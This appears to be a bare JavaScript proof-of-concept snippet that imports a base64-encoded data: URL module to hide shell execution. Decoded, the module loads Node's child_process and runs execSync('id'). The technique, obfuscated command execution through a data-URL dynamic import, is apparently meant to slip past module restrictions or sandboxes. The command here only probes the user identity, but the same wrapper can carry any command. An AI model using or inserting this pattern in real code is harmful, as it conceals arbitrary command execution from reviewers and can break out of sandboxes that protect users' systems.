const m = await import('data:text/javascript;base64,' + 'aW1wb3J0ICJub2RlOmNoaWxkX3Byb2Nlc3MiOyBwcm9jZXNzLmdldEJ1aWx0aW5Nb2R1bGUoImNoaWxkX3Byb2Nlc3MiKS5leGVjU3luYygiaWQiKTs=');
console.log(m.default);
